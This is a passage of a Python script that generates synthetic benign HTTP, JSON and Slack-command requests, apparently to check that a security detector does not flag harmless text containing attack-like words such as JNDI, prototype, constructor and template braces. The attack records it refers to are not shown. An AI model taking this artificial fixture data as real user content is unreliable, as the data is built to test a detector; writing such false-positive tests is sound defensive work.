    "https://www.rfc-editor.org/rfc/rfc2397",
    "https://stackoverflow.com/questions/1234567/how-to-run-a-process-from-java",
    "https://stackoverflow.com/questions/7654321/what-is-the-constructor-property-in-javascript",
    "https://shop.example.org/products/java-mug?color=black",
    "https://www.example.co.uk/careers/senior-java-developer",
    "https://blog.example.com/2023/11/02/moving-from-jsp-to-thymeleaf",
    "https://learn.example.edu/courses/ruby-101/lesson/3",
    "https://maps.example.com/?q=169+Main+Street",
    "https://calendar.example.com/event?id=10.0.4&tz=UTC",
    "https://example.org/reports/2024/q1.pdf",
    "https://meet.example.com/java-guild-weekly",
    "https://npm.example.com/package/prototype-utils",
]

PROSE = [
    "The Java course covers classes, objects, inheritance and the runtime environment.",
    "Process builder certification for the plant managers, Tuesday 9am",
    "Ruby and Perl anniversary party, both turning 30 something",
    "Constructor Group Ltd, 45 Prototype Way, Cambridge",
    "The system was down for maintenance between 02:00 and 03:00",
    "Please execute the contract and return a signed copy",
    "Data scheme migration: old customer IDs map to the new format",
    "Metadata of the photos includes location, remove it before publishing",
    "Dear {{name}}, thank you for your order",
    "Hello ${firstName}, your appointment is confirmed",
    "Template: <%= customer %> owes <%= amount %>",
    "The runtime was 2h 13m",
    "Class of 2019 reunion",
    "Java Street 12, 10115 Berlin",
    "Perl Harbor Seafood, 8 Dock Road",
    "Ruby Tuesday lunch voucher",
    "serialization of the results to CSV is done nightly",
    "the magic bytes of the file say it is a ZIP archive",
    "base64 encoded attachment, 3 pages",
    "load the class roster from the spreadsheet",
    "method acting workshop, 2 days",
    "while true love waits - the book club pick",
    "for ever and always - wedding engraving text",
    "169 Elm Street, Apartment 254",
    "IP address of the office printer: 192.168.1.50",
    "server room 10.0 on the floor plan",
    "upload the JSP migration plan to the wiki",
    "the file is called report-final.jsp.txt, rename it",
    "Log for J. Smith, shift 4",
    "Directory naming and lookup (JNDI) chapter in the book",
    "Spring cleaning: classLoader tidy-up task in Jira",
    "prototype of the new chair arrives Monday",
    "constructor.io is the search vendor we evaluated",
    "process improvements for Q3",
    "our require-ments doc is in review",
    "Kernel panic on the old laptop, sent to IT",
    "system requirements: 8 GB RAM, Java 17",
    "exec summary attached",
    "eval period ends on the 30th",
    "Twig and branch craft workshop for kids",
    "Velocity of the team: 42 points",
    "Freemarker pens out of stock",
    "Thymeleaf tea blend, 200 g",
    "Smarty pants costume for the party",
    "Handlebars moustache wax",
    "Pug puppy training class",
    "Jinja ninja sticker pack",
    "Erb the ferret, our office mascot",
    "the meta data sheet for the samples",
    "gopher protocol history talk at the museum",
    "local host family for the exchange student",
    "Object prototype sculpture exhibition",
    "cloud provider comparison: pricing, regions, support",
    "data: see attached spreadsheet",
    "amount due: $1,200.00 (incl. VAT)",
    "use {curly braces} for the placeholders in the letter",
    "{{ }} double braces mean a variable in our newsletter tool",
    "the <% %> tags are from the old ASP site",
    "process.env is where the config lives, per the onboarding doc",
    "Java, JavaScript, Ruby and Perl experience required",
]

SEARCHES = [
    "java developer", "ruby", "perl", "node.js", "template", "jinja", "thymeleaf", "process engineer",
    "runtime", "class", "constructor", "prototype", "metadata", "serialization", "log4j upgrade", "jndi",
    "spring boot", "tomcat", "jsp", "handlebars", "pug", "twig", "smarty", "velocity", "freemarker", "erb",
    "data scheme", "ip address", "169 main st", "10.0", "127", "localhost", "cloud", "aws", "gcp", "azure",
    "system admin", "exec assistant", "eval", "while", "for", "require", "child", "process", "spawn",
    "java.lang", "org.apache", "commons collections", "object stream", "base64", "magic", "bytes",
    "O'Brien", "Müller", "José", "Zoë", "Nguyễn", "李", "Anne-Marie", "van der Berg", "D'Angelo",
    "ann@example.org", "+44 20 7946 0958", "sales & marketing", "R&D", "C++", "C#", "F#", ".NET",
    "50% off", "Q1/Q2", "2024-03-10", "#general", "@channel", "team: platform", "role=admin",
]

PROFILES = [
    {"name": "Ruby Chen", "title": "Senior Java Engineer", "city": "Toronto"},
    {"name": "Perl Johansson", "title": "Process Manager", "city": "Malmö"},
    {"name": "Jin Ja", "title": "Template Designer", "city": "Seoul"},
    {"name": "Java Patel", "title": "Runtime Engineer", "city": "Pune"},
    {"name": "Constance Tructor", "title": "Architect", "city": "Lyon"},
    {"name": "Proto Typo", "title": "UX Prototyper", "city": "Milan"},
    {"name": "Smarty Jones", "title": "Analyst", "city": "Leeds"},
    {"name": "Velocity Lee", "title": "Scrum Master", "city": "Austin"},
    {"name": "Thyme Leaf", "title": "Chef", "city": "Portland"},
    {"name": "Handel Barsky", "title": "Musician", "city": "Vienna"},
    {"name": "Pug Owner", "title": "Dog Trainer", "city": "Bristol"},
    {"name": "Erb Anderson", "title": "Accountant", "city": "Oslo"},
    {"name": "Meta Data", "title": "Librarian", "city": "Boston"},
    {"name": "Cloud Nine", "title": "Pilot", "city": "Denver"},
    {"name": "Ann O'Neil", "bio": "Java and Kotlin, 10 years. I like processes that are simple.",
     "company": "Acme Runtime GmbH"},
    {"name": "Ben", "bio": "Ruby on Rails, some Perl, lots of shell", "location": "Lisbon"},
    {"name": "Cara", "bio": "Node.js, TypeScript; I write templates in Handlebars and Pug"},
    {"name": "Dev", "bio": "Spring, Thymeleaf, Freemarker. Formerly JSP and Struts."},
    {"name": "Eve", "bio": "Python, Jinja2 templates, Django"},
    {"name": "Fay", "bio": "PHP with Twig and Smarty, Symfony since 2.0"},
    {"name": "Gus", "bio": "cloud infra: AWS, GCP, Azure metadata services and IAM"},
    {"name": "Hal", "bio": "I build data pipelines; serialization formats are my hobby"},
    {"name": "Ivy", "bio": "Security engineer, pentests, SSRF and deserialization research"},
    {"name": "Jon", "bio": "Log4j maintainer fan club, member since 2021"},
    {"name": "Kim", "address": "10 Java Road, Singapore 168733", "phone": "+65 6123 4567"},
    {"name": "Lou", "address": "127 Main Street, Springfield", "phone": "+1 555 0100"},
    {"name": "Max", "address": "169 Station Rd, Apt 254, Leeds"},
    {"name": "Noa", "address": "Rua da Constituição 10, Porto"},
    {"name": "Oli", "website": "https://oli.example.com/blog/java-tips", "bio": "{{ blog }} about Java"},
    {"name": "Pat", "avatar_url": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
                                  "nGNgYGD4DwABBAEAcCBlCwAAAABJRU5ErkJggg=="},
    {"name": "Quinn", "bio": "while (alive) { learn(); }  -- my motto"},
    {"name": "Rae", "bio": "for(;;) coffee();"},
    {"name": "Sam", "bio": "I maintain the process.env loader at work"},
    {"name": "Tia", "bio": "Ask me about the prototype chain and class syntax in JS"},
    {"name": "Uma", "bio": "{{Hello}} I am a template engine nerd"},
    {"name": "Vic", "bio": "Hi, ${name} here. Yes, that's my real handle."},
    {"name": "Wes", "bio": "<%= awesome %> ERB enthusiast"},
    {"name": "Xia", "bio": "#{ruby} and #{perl} in my toolbox"},
    {"name": "Yan", "bio": "Runtime performance tuning for JVM apps"},
    {"name": "Zed", "bio": "require('coffee') && require('sleep')"},
]

SLASH = [
    ("/deploy", "billing-service to staging"),
    ("/deploy", "java-worker v2.3.1 to prod"),
    ("/remind", "me to upgrade log4j tomorrow at 9am"),
    ("/remind", "#platform to review the ProcessBuilder PR on Friday"),
    ("/poll", "\"Jinja or Twig for the new mailer?\" \"Jinja\" \"Twig\""),
    ("/poll", "\"Lunch?\" \"ramen\" \"pizza\" \"salad\""),
    ("/status", "runtime of nightly job"),
    ("/oncall", "who"),
    ("/ticket", "class loader leak in tomcat after redeploy"),
    ("/ticket", "template shows {{first_name}} literally in the welcome mail"),
    ("/ticket", "metadata service timeout on instance i-0abc123"),
    ("/ticket", "Perl script in cgi-bin returns 500"),
    ("/ticket", "Ruby importer crashes on empty CSV"),
    ("/search", "java.lang.OutOfMemoryError"),
    ("/search", "process.env undefined in jest"),
    ("/search", "prototype chain"),
    ("/giphy", "constructor"),
    ("/giphy", "while true"),
    ("/feedback", "the new template editor is great, {{ }} autocomplete please"),
    ("/feedback", "the ${var} syntax in the invoice template confuses customers"),
    ("/lookup", "10.0.3.17"),
    ("/lookup", "ldap user jsmith"),
    ("/standup", "yesterday: serialization fix; today: JSP cleanup; blockers: none"),
    ("/standup", "fixed the while loop in the retry helper, reviewing the class diagram"),
    ("/away", "at the Java meetup until 3pm"),
    ("/note", "eval period for the SSO vendor ends on the 30th"),
    ("/note", "data scheme v3 approved"),
    ("/note", "magic bytes check for uploads is in the uploader now"),
    ("/weather", "Perl, Germany"),
    ("/translate", "process to German"),
]

NOTES = [
    "Customer asked about our Java SDK's ProcessBuilder usage, pointed them to the docs",
    "Refunded order 1042, the template had ${price} instead of the price",
    "User reported the email showed {{first_name}}; the merge field was misspelled",
    "Account locked after 5 attempts; unlocked after ID check",
    "Changed plan to Business, prorated",
    "Ruby Martinez called about the invoice, resolved",
    "Perl & Sons Ltd. billing contact updated",
    "Data export in JSON and CSV sent via secure link",
    "Customer uses a Node.js integration with require('our-sdk')",
    "Asked about serialization format of webhooks: JSON only",
    "Cloud region moved to eu-west-1 on request",
    "IP allowlist updated: 203.0.113.0/24",
    "The user's template uses Handlebars {{#each items}} blocks, supported",
    "Thymeleaf question forwarded to engineering",
    "Log4j statement sent to the customer's security team",
    "Metadata fields for uploads explained: size, type, checksum",
    "Customer's JSP portal embeds our widget via iframe",
    "Constructor Ltd renewal signed for 2 years",
    "Prototype Labs trial extended 14 days",
    "Runtime errors on the customer side came from an old SDK",
]


def _slash(command: str, text: str) -> dict[str, Any]:
    body = urllib.parse.urlencode([
        ("token", "verification-token"), ("team_id", "T061EG9R6"), ("team_domain", "acme"),
        ("channel_id", "C0123456789"), ("channel_name", "platform"), ("user_id", "U012345678"),
        ("user_name", "ann"), ("command", command), ("text", text), ("api_app_id", "A0PNCHHK2"),
        ("response_url", "https://hooks.slack.com/commands/T061EG9R6/1234567890/abcdefABCDEF"),
        ("trigger_id", "13345224609.738474920.8088930838d88f008e0")])
    return {"method": "POST", "uri": "/slack/commands", "body": body,
            "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
                        "Content-Type": "application/x-www-form-urlencoded",
                        "X-Slack-Request-Timestamp": "1719000000", "X-Slack-Signature": "v0=" + "0" * 64}}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_json("/api/users", doc) for doc in PROFILES), f"{NAME}-profile", n, "json")
    n = yield from numbered((_slash(c, t) for c, t in SLASH), f"{NAME}-cmd", n, "form")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("notes", t)]) for t in NOTES),
                            f"{NAME}-note", n, "form")
    n = yield from numbered((_json("/api/users/42", {"display_name": t.split(",")[0][:40], "bio": t})
                             for t in PROSE), f"{NAME}-bio2", n, "json")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]) for s in SEARCHES),
                            f"{NAME}-search", n, "form")
    n = yield from numbered((_slash("/note", t) for t in SLACK_TEXTS), f"{NAME}-cmd", n, "form")
    yield from numbered((_json("/api/users/42", {"webhook_url": u, "notify": True}) for u in PUBLIC_URLS),
                        f"{NAME}-url", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
